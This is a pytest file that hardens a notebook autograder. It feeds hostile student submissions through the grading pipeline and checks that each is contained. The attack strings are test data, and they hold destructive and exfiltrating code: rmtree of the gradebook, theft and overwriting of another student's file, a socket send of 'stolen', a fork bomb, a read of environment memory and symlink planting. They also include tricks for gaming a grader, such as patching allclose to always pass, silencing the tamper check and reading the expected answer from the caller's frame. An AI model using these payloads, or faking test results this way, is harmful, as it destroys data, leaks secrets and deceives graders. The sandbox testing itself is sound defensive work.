"""A hostile class through the real pipeline (``autograder.course.grade``), one student per attack.

Each attack asserts that the attacker gains nothing over the same notebook without the attack (the
honest part of it still earns its points), that the report names the attack where it can be named,
and that nobody else's grade, feedback or files changed, nor a root-owned file outside the run. The
assignment is built here: ``add`` (2 points, with a hidden test) is answered honestly unless the
attack is on it; ``square`` (3 points, checked with ``utils.assert_close``, ``np.allclose`` and
``torch.allclose``, numpy only, ``scipy.signal.correlate`` ruled out) carries most attacks;
``cube`` (2 points, compared with a variable named ``expected``) is answered honestly unless the
attack is on it.
"""

from __future__ import annotations

import hashlib
import os
import socket
import threading
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_notebook

from autograder import sandbox
from autograder.course import KERNELSPEC, Reason, grade, release
from conftest import UNSAFE

pytestmark = [pytest.mark.pipeline, pytest.mark.xdist_group("grading-attacks")]
if UNSAFE:
    pytestmark.append(pytest.mark.skip(reason="the grading sandbox does not work on this machine"))

ASSIGNMENT, NOTEBOOK = "00_attacks", "attacks.ipynb"
SETUP = "import numpy as np\nimport torch\nimport utils\nutils.setup_notebook(seed=0)"
ADD = "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION"
CUBE = "def cube(x):\n    ### BEGIN SOLUTION\n    return x**3\n    ### END SOLUTION"
TEST_CUBE = (
    "# Test: cube (2 points)\nimport numpy as np\nfrom utils import assert_close\n"
    "x = np.linspace(-1, 1, 5)\nexpected = x**3\nassert_close(cube(x), expected, 'cube(x)')\n"
    "### BEGIN HIDDEN TESTS\nx = np.arange(3.0)\nexpected = x**3\nassert_close(cube(x), expected, 'cube(arange)')\n"
    "### END HIDDEN TESTS"
)
SQUARE = "def square(x):\n    ### BEGIN SOLUTION\n    return x * x\n    ### END SOLUTION"
TEST_ADD = (
    "# Test: add (2 points)\nassert add(1, 2) == 3, 'add(1, 2) should be 3'\n"
    "### BEGIN HIDDEN TESTS\nassert add(-5, 5) == 0, 'hidden: add(-5, 5) should be 0'\n### END HIDDEN TESTS"
)
TEST_SQUARE = (
    "# Test: square (3 points)\nimport numpy as np\nimport torch\nfrom utils import assert_close\n"
    "x = np.arange(4.0)\nassert_close(square(x), x**2, 'square(x)')\n"
    "assert np.allclose(square(-x), x**2), 'square(-x)'\n"
    "assert torch.allclose(torch.as_tensor(square(x + 1)), torch.as_tensor((x + 1) ** 2)), 'square(x + 1)'"
)
HIDDEN_LINE = "hidden: add(-5, 5) should be 0"
FULL = 7.0  # add 2 + square 3 + cube 2
GOOD_SQUARE = "def square(x):\n    return x * x"
WRONG_SQUARE = "def square(x):\n    return x * x + 1"
PATCHES = (
    "import numpy, torch, utils, utils.checks\n"
    "numpy.allclose = lambda *a, **k: True\nnumpy.testing.assert_allclose = lambda *a, **k: None\n"
    "torch.allclose = lambda *a, **k: True\nutils.assert_close = lambda *a, **k: None\n"
    "utils.checks.assert_close = lambda *a, **k: None\nglobals()['assert_close'] = lambda *a, **k: None\n"
)

# A student who has read autograder/agent.py: remove its hooks, or keep its recorder but silence
# its tampering check and patch the comparisons again after it has put them back.
UNHOOK_AGENT = (
    "import IPython, numpy, utils\n_ip = IPython.get_ipython()\n_ip.input_transformers_post.clear()\n"
    "_ip.events.callbacks['post_run_cell'].clear()\n" + PATCHES
)
OUTWIT_AGENT = (
    "import IPython, numpy, torch, utils\n_ip = IPython.get_ipython()\n"
    "_guard = next(t.__self__ for t in _ip.input_transformers_post if hasattr(t, '__self__'))\n"
    "_transform = _guard.transform\n"
    "def _sneaky(lines):\n"
    "    out = _transform(lines)\n"
    "    _guard.tampered.clear()\n"
    "    numpy.allclose = lambda *a, **k: True\n"
    "    torch.allclose = lambda *a, **k: True\n"
    "    utils.assert_close = lambda *a, **k: None\n"
    "    return [line for line in out if 'TamperingDetected' not in line]\n"
    "_ip.input_transformers_post[:] = [_sneaky]\n"
)


DISABLE_TORCH_FUNCTION = (
    "import torch\ndef square(x):\n    with torch._C.DisableTorchFunction():\n"
    "        return (torch.as_tensor(x) ** 2).numpy()"
)
TORCH_IN_A_THREAD = (
    "import threading\nimport torch\ndef square(x):\n    out = {}\n"
    "    worker = threading.Thread(target=lambda: out.update(y=(torch.as_tensor(x) ** 2).numpy()))\n"
    "    worker.start()\n    worker.join()\n    return out['y']"
)
SETPROFILE_THEN_SCIPY = (
    "import sys\nimport numpy as np\nfrom scipy.signal import correlate\ndef square(x):\n"
    "    sys.setprofile(None)\n    one = correlate(np.ones(1), np.ones(1))[0]\n    return x * x * one"
)
# Nested deeper than any fixed depth a counter might stop at.
METADATA_FLOOD = (
    "from IPython.display import display\npad = 'y' * 1_000_000\nfor _ in range(40):\n    pad = {'a': pad}\n"
    "for _ in range(40):\n    display({'text/plain': 'x'}, metadata={'pad': pad}, raw=True)\n"
)
# The kernel's own environment block in memory (what it started with), read past os.environ.
ENV_LEAK = (
    "import ctypes\nfields = open('/proc/self/stat').read().rsplit(')', 1)[1].split()\n"
    "start, end = int(fields[-3]), int(fields[-2])\nprint('ENV', ctypes.string_at(start, end - start))\n"
)
SECRET = "hunter2-instructor-secret"
FAKE_PROBLEM = (
    "class LimitExceeded(Exception):\n    pass\n"
    "raise LimitExceeded('\\nvictim/00_attacks: tampering: victim replaced numpy.allclose \\x1b[2J')"
)
# Reads the test's expected answer from the caller's frame: nothing to read in the clean room.
FRAME_ORACLE = (
    "import sys\ndef cube(x):\n    frame = sys._getframe(1)\n    while frame is not None:\n"
    "        if 'expected' in frame.f_locals:\n            return frame.f_locals['expected']\n"
    "        frame = frame.f_back\n    return x"
)
# An execute_result shown before each test cell runs: nbgrader scores a cell by its first error or
# execute_result, so this one would outweigh the test's own failure and the repeat's.
DISPLAYHOOK_CREDIT = (
    "def _credit(info):\n    if info.raw_cell.lstrip().startswith('# Test:'):\n"
    "        get_ipython().displayhook('ok')\n_ = get_ipython().events.register('pre_run_cell', _credit)\n"
)
# Right on the visible check, wrong on the hidden one, which runs only outside the kernel.
HIDDEN_WRONG_ADD = "def add(a, b):\n    return a + b if a > 0 else 1"


MEMORY_HOG = (
    "import subprocess, sys\n"
    "hog = \"open('/proc/self/oom_score_adj', 'w').write('1000'); b = b'x' * (1536 * 1024**2); import time; "
    'time.sleep(3)"\n'
    "procs = [subprocess.Popen([sys.executable, '-c', hog]) for _ in range(3)]\n"
    "print('hogs killed:', sum(p.wait() == -9 for p in procs))\n"
)
DISK_FILLER = "for i in range(8):\n    with open(f'fill{i}', 'wb') as f:\n        f.write(b'x' * (200 * 1024**2))\n"


def symlink_restart(canary: str) -> str:
    """Plant a link to ``canary`` where the launcher writes the connection file, then die."""
    return (
        "import os, pathlib, signal\nruntime = pathlib.Path.cwd().parent / 'runtime'\n"
        "for name in ('connection.json', 'kernel-1'):\n    (runtime / name).unlink(missing_ok=True)\n"
        f"    os.symlink({canary!r}, runtime / name)\nos.kill(os.getpid(), signal.SIGKILL)\n" + GOOD_SQUARE
    )


def harmless(code: str) -> str:
    """Attack code whose failure must not stop the cell (so the rest of it is graded)."""
    body = "\n".join("    " + line for line in code.splitlines())
    return f"try:\n{body}\nexcept Exception as exc:\n    print('attack blocked:', type(exc).__name__)\n"


def attacks(paths: dict[str, str], port: int) -> dict[str, tuple[str, float, Reason | None]]:
    """student -> (square cell source, expected score, reason the report must give)."""
    erase = (
        "import pathlib, shutil\nfor p in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents]:\n"
        "    (p / 'gradebook.db').unlink(missing_ok=True)\n"
        "    for d in ('autograded', 'feedback', 'submitted', 'source', 'course'):\n"
        "        shutil.rmtree(p / d, ignore_errors=True)\n"
        f"pathlib.Path({paths['gradebook']!r}).unlink()\n"
    )
    steal = (
        f"print(open({paths['victim_submitted']!r}).read()[:2000])\n"
        f"open({paths['victim_submitted']!r}, 'w').write('overwritten')\n"
    )
    read_source = f"print(open({paths['source']!r}).read())\n"
    snoop_feedback = f"print(open({paths['victim_feedback']!r}).read()[:2000])\n"
    network = f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'stolen')\n"
    return {
        "erase": (harmless(erase) + GOOD_SQUARE, 7.0, None),
        "steal": (harmless(steal) + harmless(snoop_feedback) + GOOD_SQUARE, 7.0, None),
        "read_source": (harmless(read_source) + GOOD_SQUARE, 7.0, None),
        "network": (harmless(network) + GOOD_SQUARE, 7.0, None),
        "memory": ("import numpy as np\nhog = np.ones(8 * 1024**3 // 8)\n" + GOOD_SQUARE, 4.0, Reason.LIMIT),
        "fork_bomb": ("import os\nwhile True:\n    os.fork()\n" + GOOD_SQUARE, 4.0, None),
        "flood": ("while True:\n    print('x' * 10000)\n" + GOOD_SQUARE, 4.0, Reason.LIMIT),
        "endless": ("while True:\n    pass\n" + GOOD_SQUARE, 4.0, Reason.LIMIT),
        "exit": ("import os\nos._exit(3)\n" + GOOD_SQUARE, 4.0, Reason.KERNEL_DIED),
        "torch": (
            "import torch as tt\ndef square(x):\n    return (tt.as_tensor(x) ** 2).numpy()",
            4.0,
            Reason.TORCH_IN_NUMPY,
        ),
        "wrong": (WRONG_SQUARE, 4.0, None),
        # The test of add runs before the patching cell and keeps its points; every later test scores 0.
        "wrong_patched": (PATCHES + WRONG_SQUARE, 2.0, Reason.TAMPERING),
        # Without the agent's hooks nothing is recorded after them: no later test can pass outside the kernel.
        "wrong_unhooked": (UNHOOK_AGENT + WRONG_SQUARE, 4.0, Reason.TAMPERING),
        # The comparisons pass in the kernel; repeated in the grader with square's answers, they fail.
        "wrong_outwitting": (OUTWIT_AGENT + WRONG_SQUARE, 4.0, Reason.TAMPERING),
        # A student who has read the agent: torch behind its back, scored where torch does not exist.
        "disable_torch_function": (DISABLE_TORCH_FUNCTION, 4.0, Reason.TORCH_IN_NUMPY),
        "torch_in_a_thread": (TORCH_IN_A_THREAD, 4.0, Reason.TORCH_IN_NUMPY),
        "setprofile": (SETPROFILE_THEN_SCIPY, 4.0, Reason.TORCH_IN_NUMPY),
        # The kernel's input history holds only the visible part of each repeated test.
        "history": ("print(In)\n" + GOOD_SQUARE, 7.0, None),
        # Errors and display metadata count against the output budget; a message past 16 MB never arrives.
        "big_error": ("raise ValueError('x' * 40_000_000)\n" + GOOD_SQUARE, 4.0, None),
        "metadata_flood": (GOOD_SQUARE + "\n" + METADATA_FLOOD, 7.0, Reason.LIMIT),
        # A student's own "LimitExceeded" names nobody: the report reads what the grader attributed.
        "fake_problem": (GOOD_SQUARE + "\n" + FAKE_PROBLEM, 7.0, None),
        # The restarted kernel's connection file is written through descriptors: root follows no link.
        "symlink_restart": (symlink_restart(paths["canary"]), 4.0, Reason.KERNEL_DIED),
        # Memory is the submission's, not each process's: three children cannot hold 1.5 GB each.
        "memory_hog": (GOOD_SQUARE + "\n" + MEMORY_HOG, 7.0, None),
        # The scratch folder is a small tmpfs: the host's disk is out of reach.
        "disk_filler": (harmless(DISK_FILLER) + GOOD_SQUARE, 7.0, None),
        # Nothing of the grader's environment reaches a kernel, not even in its memory.
        "env_leak": (harmless(ENV_LEAK) + GOOD_SQUARE, 7.0, None),
        # A value shown in a test cell scores nothing: the cell is graded by its errors only.
        "displayhook_credit": (DISPLAYHOOK_CREDIT + WRONG_SQUARE, 4.0, None),
    }


def build_source(root: Path) -> Path:
    nb = new_notebook(
        cells=[new_code_cell(c) for c in (SETUP, ADD, TEST_ADD, SQUARE, TEST_SQUARE, CUBE, TEST_CUBE)],
        metadata={
            "kernelspec": dict(KERNELSPEC),
            "dl_course": {"numpy_only": True, "forbidden": {"square": ["scipy.signal.correlate"]}},
        },
    )
    path = root / ASSIGNMENT / NOTEBOOK
    path.parent.mkdir(parents=True)
    nbformat.write(nb, path)
    return root


def answered(released: nbformat.NotebookNode, square: str, add: str = "", cube: str = "") -> nbformat.NotebookNode:
    nb = nbformat.from_dict(released)
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid == "solution-add":
            cell.source = add or "def add(a, b):\n    return a + b"
        elif gid == "solution-square":
            cell.source = square
        elif gid == "solution-cube":
            cell.source = cube or "def cube(x):\n    return x**3"
    return nb


# Attacks on add and cube: (add source, cube source, expected score).
OTHER_ATTACKS = {"hidden_wrong": (HIDDEN_WRONG_ADD, "", 5.0), "frame_oracle": ("", FRAME_ORACLE, 5.0)}


class Listener:
    """A TCP server on the grader's loopback that records whoever connects."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = threading.Event()
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("attacks")
    source = build_source(tmp / "source")
    [released_path] = release(tmp / "release", source)
    released = nbformat.read(released_path, as_version=4)
    out, subs = tmp / "graded", tmp / "submissions"
    course = out / "course"
    paths = {
        "gradebook": str(course / "gradebook.db"),
        "victim_submitted": str(course / "submitted" / "victim" / ASSIGNMENT / NOTEBOOK),
        "victim_feedback": str(out / "feedback" / "victim" / ASSIGNMENT / "attacks.html"),
        "source": str(course / "source" / ASSIGNMENT / NOTEBOOK),
        "canary": str(tmp / "canary"),
    }
    listener = Listener()
    plan = attacks(paths, listener.port)
    plan.update({s: (GOOD_SQUARE, score, None) for s, (_, _, score) in OTHER_ATTACKS.items()})
    # "victim" sorts last: every attacker runs before the victim is graded, "aaa_victim" first.
    for student, square in [
        ("aaa_victim", GOOD_SQUARE),
        *[(s, c) for s, (c, _, _) in plan.items()],
        ("victim", GOOD_SQUARE),
    ]:
        path = subs / student / ASSIGNMENT / NOTEBOOK
        path.parent.mkdir(parents=True)
        add, cube, _ = OTHER_ATTACKS.get(student, ("", "", None))
        nbformat.write(answered(released, square, add, cube), path)
    before = {p: digest(p) for p in sorted(subs.rglob("*.ipynb"))}
    canary = tmp / "canary"  # a root-owned file outside the run, which no attack may change
    canary.write_text("canary")
    canary.chmod(0o600)
    # Two at a time, as an instructor with two cores would: the attacks run beside other students.
    os.environ["INSTRUCTOR_SECRET_FOR_THE_TEST"] = SECRET  # in the grader's environment, as a key would be
    try:
        report = grade(subs, out, source, timeout=20, progress=False, jobs=2)
    finally:
        del os.environ["INSTRUCTOR_SECRET_FOR_THE_TEST"]
    listener.stop.set()
    return report, out, plan, before, listener


def score(report, student) -> float:
    return report.scores.get((student, ASSIGNMENT), (None, None))[0]


def test_victims_keep_their_grades_files_and_feedback(graded):
    report, out, _, before, _ = graded
    for victim in ("aaa_victim", "victim"):
        assert score(report, victim) == FULL, report.table()
        assert (out / "feedback" / victim / ASSIGNMENT / "attacks.html").exists()
    after = {p: digest(p) for p in before}
    assert after == before, "a submission in the class folder was changed during grading"
    rows = (out / "grades.csv").read_text().splitlines()
    assert len(rows) == 1 + len(report.students), rows
    canary = out.parent / "canary"
    info = canary.stat()
    assert canary.read_text() == "canary" and info.st_uid == os.getuid() and info.st_mode & 0o777 == 0o600


ATTACKERS = [
    "erase",
    "steal",
    "read_source",
    "network",
    "memory",
    "fork_bomb",
    "flood",
    "endless",
    "exit",
    "torch",
    "wrong",
    "disable_torch_function",
    "torch_in_a_thread",
    "setprofile",
    "history",
    "big_error",
    "metadata_flood",
    "fake_problem",
    "hidden_wrong",
    "frame_oracle",
    "symlink_restart",
    "memory_hog",
    "disk_filler",
    "env_leak",
]


@pytest.mark.parametrize("student", ATTACKERS)
def test_each_attack_costs_only_its_own_cell(graded, student):
    report, out, plan, _, listener = graded
    _, expected, reason = plan[student]
    assert score(report, student) == expected, report.table()
    if reason is not None:
        reasons = [p.reason for p in report.problems if p.student == student]
        assert reason in reasons, [str(p) for p in report.problems if p.student == student]
    autograded = nbformat.read(out / "course" / "autograded" / student / ASSIGNMENT / NOTEBOOK, as_version=4)
    printed = str([c.get("outputs") for c in autograded.cells if not c.metadata.get("nbgrader", {}).get("grade")])
    assert HIDDEN_LINE not in printed, "the attacker's own cells printed the instructor's hidden test"
    assert "overwritten" not in (out / "course" / "submitted" / "victim" / ASSIGNMENT / NOTEBOOK).read_text()
    assert listener.connections == 0, "a sandboxed kernel reached the grader's loopback"


@pytest.mark.parametrize("student", ["wrong_patched", "wrong_unhooked", "wrong_outwitting"])
def test_patched_checks_score_no_more_than_the_same_wrong_answer(graded, student):
    report, _, plan, _, _ = graded
    assert score(report, student) == plan[student][1] <= score(report, "wrong"), report.table()
    assert Reason.TAMPERING in [p.reason for p in report.problems if p.student == student]


def test_comparisons_outwitted_in_the_kernel_fail_outside_it(graded):
    """The agent in the kernel was silenced: only the check outside the kernel caught the patch."""
    _, out, _, _, _ = graded
    nb = nbformat.read(out / "course" / "autograded" / "wrong_outwitting" / ASSIGNMENT / NOTEBOOK, as_version=4)
    [test] = [c for c in nb.cells if c.source.startswith("# Test: square")]
    errors = [o for o in test.outputs if o.output_type == "error"]
    assert [e.ename for e in errors] == ["CleanCheckFailed"], errors
    assert "square" in errors[0].evalue and "AssertionError" in errors[0].evalue, errors[0].evalue
    summary = nb.metadata["dl_grading"]["checked_outside_the_kernel"]
    assert summary["passed"] == ["add", "cube"] and summary["failed"] == ["square"], summary
    honest = nbformat.read(out / "course" / "autograded" / "victim" / ASSIGNMENT / NOTEBOOK, as_version=4)
    assert honest.metadata["dl_grading"]["checked_outside_the_kernel"]["passed"] == ["add", "square", "cube"]


def test_limits_are_explained_in_the_students_feedback(graded):
    _, out, _, _, _ = graded
    feedback = (out / "feedback" / "memory" / ASSIGNMENT / "attacks.html").read_text()
    assert "of memory and was stopped" in feedback


def autograded(out, student: str) -> nbformat.NotebookNode:
    return nbformat.read(out / "course" / "autograded" / student / ASSIGNMENT / NOTEBOOK, as_version=4)


def test_the_kernel_never_sees_a_hidden_test(graded):
    """The test cells the grader repeats outside the kernel run there without their hidden part, so
    the kernel's input history holds only what the student's release shows."""
    _, out, _, _, _ = graded
    [square_cell] = [c for c in autograded(out, "history").cells if c.source.startswith("print(In)")]
    printed = str(square_cell.outputs)
    assert "assert add(1, 2) == 3" in printed, printed[:2000]
    assert HIDDEN_LINE not in printed


def test_hidden_tests_run_outside_the_kernel_and_count(graded):
    report, out, _, _, _ = graded
    [add_test] = [c for c in autograded(out, "hidden_wrong").cells if c.source.startswith("# Test: add")]
    assert [o.evalue for o in add_test.outputs if o.output_type == "error"] == [
        f"a hidden test failed: AssertionError: {HIDDEN_LINE}"
    ], add_test.outputs


@pytest.mark.parametrize("student", ["disable_torch_function", "torch_in_a_thread", "setprofile"])
def test_torch_hidden_from_the_agent_fails_where_torch_does_not_exist(graded, student):
    _, out, _, _, _ = graded
    [test] = [c for c in autograded(out, student).cells if c.source.startswith("# Test: square")]
    errors = [o for o in test.outputs if o.output_type == "error"]
    assert errors and errors[-1].ename == "NumpyOnlyError", errors


def test_a_students_own_error_names_make_no_problem_line(graded):
    """The report's problems are what the grader attributed: a student's "LimitExceeded" about another
    student is not one, and no problem carries a raw newline or escape from a student."""
    report, _, _, _, _ = graded
    assert [p for p in report.problems if p.student == "fake_problem"] == [], report.problems
    assert [p for p in report.problems if p.student in ("victim", "aaa_victim")] == []
    for problem in report.problems:
        assert "\x1b" not in str(problem) and "\n" not in str(problem), str(problem)


@pytest.mark.parametrize("student", ["big_error", "metadata_flood"])
def test_what_a_kernel_sends_is_bounded(graded, student):
    """Errors and display metadata count against the output budget, and a message past the largest
    allowed never reaches the grader: the autograded notebook stays small."""
    _, out, _, _, _ = graded
    path = out / "course" / "autograded" / student / ASSIGNMENT / NOTEBOOK
    assert path.stat().st_size < 8 * 1024**2, path.stat().st_size


def test_a_submission_is_held_to_its_memory_and_disk_as_a_whole(graded):
    _, out, _, _, _ = graded
    if sandbox.cgroup_mode() is None:
        pytest.skip("no cgroup can be made on this machine: memory is limited per process only")
    [hog] = [c for c in autograded(out, "memory_hog").cells if "hogs killed" in c.source]
    killed = [o.text for o in hog.outputs if o.output_type == "stream" and "hogs killed" in o.text]
    assert killed and killed[0].split()[-1] in ("1", "2", "3"), hog.outputs
    [filler] = [c for c in autograded(out, "disk_filler").cells if "fill{i}" in c.source]
    assert "attack blocked: OSError" in str(filler.outputs), filler.outputs


def test_nothing_of_the_graders_environment_reaches_a_kernel(graded):
    _, out, _, _, _ = graded
    printed = str([c.get("outputs") for c in autograded(out, "env_leak").cells])
    assert "ENV b'" in printed, printed[:2000]
    assert SECRET not in printed
